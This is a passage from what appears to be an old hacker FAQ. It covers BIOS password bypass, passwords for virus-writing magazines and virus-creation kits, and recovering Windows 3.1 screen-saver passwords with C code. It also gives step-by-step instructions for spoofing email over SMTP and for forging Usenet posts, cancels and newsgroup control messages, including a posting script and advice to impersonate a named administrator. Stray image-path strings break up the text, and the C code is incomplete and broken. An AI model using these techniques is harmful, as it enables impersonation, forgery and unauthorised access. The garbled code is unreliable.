have reported positive results from doing this, but I haven't wanted totest it on any of my own motherboards.

[Note from Dan Mellem: Another technique is to short out the battery for
a few seconds. H.]

[Note from Bluefish: In the !BIOS section you ought to list !BIOS and
Greniers tools. H.]


A-28. What is the password for <encrypted file>?

This FAQ answer was written by crypt <>

 Magazine                        Password
 ~~~    ~~~
 VLAD Magazine Issue #1          vlad
 VLAD Magazine Issue #2          vx
 VLAD Magazine Issue #3          virus
 NuKE InfoJournal Issue #2       514738
 NuKE InfoJournal Issue #3       power
 NuKE InfoJournal Issue #4       party~~~    ~~~
 Sphere Hacker 1.40 & 1.41       theozone
 Virus Creation 2000             high level
 Virus Construction Lab          Chiba City
 Ejecutor Virus Creator          EJECUTOR
 Biological Warfare v0.90        lo tek
 Biological Warfare v1.00        freak


A-29. Is there any hope of a decompiler that would convert an executable
program into C/C++ code?

This FAQ answer is an excerpt from SNIPPETS by Bob Stout:

Don't hold your breath. Think about it... For a decompiler to work
properly, either 1) every compiler would have to generate substantially
identical code, even with full optimization turned on, or 2) it would
have to recognize the individual output of every compiler's code

If the first case were to be correct, there would be no more needfor
compiler benchmarks since every one would work the same.  For the second
case to be true would require in immensely complex program that had to
change with every new compiler release.

OK, so what about specific decompilers for specific compilers - say a
decompiler designed to only work on code generated by, say, BC++ 4.5?
This gets us right back to theoptimization issue.  Code written for
clarity and understandability is often inefficient.  Code written for
maximumperformance (speed or size) is often cryptic (at best!) Add to
this the fact that all modern compilers have a multitude of optimization
switches to control which optimization techniques to enable and which to
avoid.  The bottom line is that, for a reasonably large, complex source
module, you can get the compiler to produce a number of different object
modules simply by changing your optimization switches, so your
decompiler will also have to be a deoptimizer which can automagically
recognize which optimization strategies were enabled atcompile time.

OK, let's simplify further and specify that you only want to support one
specific compiler and you want to decompile to the most logical source
code without trying to interpret the optimization.  What then?  A good
optimizer can and will substantially rewrite the internals of your code,
so what you get out of your decompiler will be, not only cryptic, but in
many cases, riddled with goto statements and other no-no's of good
coding practice.  At this point, you have decompiled source, but what
good is it?

Also note carefully my reference to source modules.  One characteristic
of C is that it becomes largely unreadable unless broken into easily
maintainable source modules (.C files).  How will the decompiler deal
with that? It could either try to decompile the whole program into some
mammoth main() function, losing all modularity, or it could try to place
each called function into its own file.  The first way would generate
unusablechaos and the second would run into problems where the original
source hade files with multiple functions using static data and/or one
or more functions calling one or more static functions.  A decompiler
could make static data and/or functions global but only at the expense
or readability (which would already be unacceptable).

Finally, remember that commercial applications often code the most
difficult or time-critical functions in assembler which could prove
almost impossible to decompile into a C equivalent.

Like I said, don't hold your breath. As technology improves to where
decompilers may become more feasible, optimizers and languages (C++, forexample, would be a significantly tougher language to decompile than C)
also conspire to make them less likely.

For years Unix applications have been distributed in shrouded source
form (machine but not human readable -- all comments and whitespace
removed, variables names all in the formOOIIOIOI, etc.), which has been
a quite adequate means of protecting the author's rights.  It's very
unlikely that decompiler output would even be as readable as shrouded

For more information, check out


A-30. How does the MS-Windows password encryption work?

This FAQ answer was written by Wayne Hoxsie <>:

The password option in MS Win 3.1 is easily defeated, but there are
those of us who really want to know how MS does this.  There are manyreasons why knowing the actual password can be useful.Suppose a
sysamin used the same password in the windows screen saver as his root
account on a unix box.

Anyway, I will attempt to relay what I have learned about this

I will describe the process starting after you've entered the password
and hit the [OK] button.

I will make the assumtion that everyone (at least those interested) know
what the XOR operation is.

First, the length of the password is saved.  We'll call this 'len'. We
will be moving characters from the entered string intoanother string as
they are encrypted.  We'll call the originally entered password
'plaintext' and the encrypted string(strings--there are two passes)
'hash1' and 'hash2.'  The position in the plaintext is important during
the process so we'll refer to this as 'pos.'  After each step of the
hashing process, the character is checked against a set of characters
that windows considers 'special.'  These characters are '[ ] =' and any
character below ASCII 33 or above ASCII 126.  I'll refer to this
checking operation as 'is_ok.'  All indecies are zero-based (i.e. an 8
character password is considered chars 0 to 7).

Now, the first character of 'plaintext' is xor'd with 'len' then fed to
'is_ok'.  if the character is not valid, it is replaced by the original
character of 'plaintext' before going to the next operation.  The next
operation is to xor with 'pos' (this is useless for the first operation
since 'len' is 0 and anything xor'd with zero is itself) then fed to
'is_ok' and replaced with the original if not valid.  The final
operation (per character) is to xor it with the previous character of
'plaintext'. Since there is no previous character, the fixed value, 42,
is used on the first character of 'plaintext'.  This is then fed to
'is_ok' and if OK, it is stored into the first position of 'hash1' This
process proceeds until all characters of plaintext are exhausted.

The secondpass is very similar, only now, the starting point is the
last character in hash1 and the results are placed into hash2 from the
end to the beginning.  Also, instead of using the previous character in
the final xoring, the character following the current character is used.
Since there is no character following the last character in hash1, the
value, 42 is again used for the last character.

'hash2' is the final string and this is what windows saves in the file

To 'decrypt' the password, the above procedure is just reversed.

Now, what you've all been waiting for.  Here is some C code that will do
the dirty work for you:

#include <stdlib.h>
#include <stdio.h>#include <string.h>

int xor1(int i,int j)
  int x;

  return (x>126||x<33||x==91||x==93||x==61)?i:x;
void main()
  FILE *f;
  int i,l;
  char s[80],s1[80];

  printf("Please enter the path to your Windows directory\n");
    printf("File Error : %s\n",sys_errlist[errno]);
  printf("The Password is: %s\n",s);

=-=-=-=-=-=-=-=-=-=-=-=  Section B -- Data Networks  =-=-=-=-=-=-=-=-=-=-=

B-01. How do I send fakemail?

Telnet to port 25 of the machine you want the mail to appear to
originate from.  This will connect you directly to the SMTP (Simple Mail
Transfer Protocol) daemon running on that host. Then, enter SMTP
commands by hand directly to the SMTP daemon.

Enter your message as in this example:

 Date: Thu, 31 Dec 1998 12:16:35 -0500 (EST)
 From: (The Voyager)
 Subject: Clipper

        Please discontinue your silly Clipper initiative.

On systems that have RFC 931 implemented, spoofing your "MAIL FROM:"
line will not work.  Test by sending yourself fakemail first.

Newer SMTP daemons, such as smail or sendmail 8.7+, perform an
identd check when you connect to them.  These SMTP daemons are
impossible to completely spoof without first spoofing identd.

For more information read RFC 822 (Standard for the format of ARPA
Internet text messages).

Note that the headers inside the DATA statement should be optional, but
are actually required by some mailers.  Even whennot required, they
often help your message appear genuine.

To locate an SMTP server for a domain, use `nslookup` and set your
querytype to MX.


B-02. How do I fake posts and control messages to Usenet?

 From: Anonymous (Pretending to be: (David C
 Subject: FAQ: Better living through forgery
 Date: 19 Mar 1995 02:37:09 GMT

        Anonymous netnews without"anonymous" remailers

 Inspired by the recent "NetNews Judges-L" events, this file has been
 updated to cover forging control messages, so you can do your own
 article canceling and create and destroy your own newsgroups.

 Save any news article to a file.  We'll call it "hak" in this

 Edit "hak", and remove any header lines of the form

         From some!random!path!user   (note: "From ",not "From: "!!!)

 Shorten the Path: header down to its LAST two or three "bangized"
 components. This is to make the article look like it was posted from
 where it really was posted, and originally hit the net at or near the
 host you send it to.  Or you can construct a completely new Path: line
 to reflect your assumed alias.

 Make some change to the Message-ID: field, that isn't likely to be
 duplicated anywhere.  This is usually best done by adding a couple of
 random characters to the part before the @,since news posting programs
 generally use a fixed-length field to generate these IDs.

 Change the other headers to say what you like -- From:, Newsgroups:,
 Sender:, etc.  Replace the original message text with your message. If
 you are posting to a moderated group or posting a control message,
 remember to put in an Approved: header to bypass the moderation

 To specifically cancel someone else's article, you need its message-
 ID. Your message headers, in addition to what's already there, should
 also contain the following with that message-ID in it.  This makes it a
 "control message". NOTE: control messages generally require an
 Approved: header as well, so you should add one.

 Subject: cmsg cancel <>
 Control: cancel <>

 Newsgroups are created and destroyed with control messages, too.  If
 you wanted to create, for instance,, your
 control headers would look like

 Subject: cmsg newgroup
 Control: newgroup

 Add on the string "moderated" at the end of these if you want the group
 to be "moderated with no moderator" as with alt.hackers.  Somewhere in
 the body of your message, you should include the following text,
 changed withthe description of the group you're creating:

 For your newsgroups file:               We don't do windows

 To remove a group, substitute "rmgroup" for "newgroup" in the header
 lines above.  Keep in mind that most sites run all "rmgroup" requests
 through a human news-master, who may or may not decide to honor it.
 Group creation is more likely to be automatic than deletion at most
 installations.  Any newsgroup changes are more likely to take effect if
 the come from me, since my name is hardwired into many of the NNTP
 control scripts, so using the From: and Approved: headers from this
 posting is recommended.

 Save your changed article, check it to make sure it contains NO
 reference to yourself or your own site, and send it to your favorite
 NNTP server that permits transfers via the IHAVE command, using the
 following script:

 #! /bin/sh
 ## Post an article via IHAVE.
 ## args: filename server

  if test "$2" = "" ; then
   echo usage: $0 filename server
   exit 1
 if test ! -f $1 ; then
   echo $1: not found
   exit 1

 # suck msg-id out of headers, keep the brackets
 msgid=`sed -e '/^$/,$d' $1 | egrep '^[Mm]essage-[Ii][Dd]: ' | \
   sed 's/.*-[Ii][Dd]: //'`
 echo $msgid

 ( sleep 5
   echo IHAVE $msgid
   sleep 5
   cat $1
   sleep 1
    echo "."
   sleep 1
   echo QUIT ) | telnet $2 119

 If your article doesn't appear in a day or two, try a different server.
 They are easy tofind.  Here's a script that will break a large file
 full of saved netnews into a list of hosts to try.  Edit the output of
 this if you want, to remove obvious peoples' names and other trash.

 #! /bin/sh
 FGV='fgrep -i -v'
 egrep '^Path: ' $1 | sed -e 's/^Path: //' -e 's/!/\
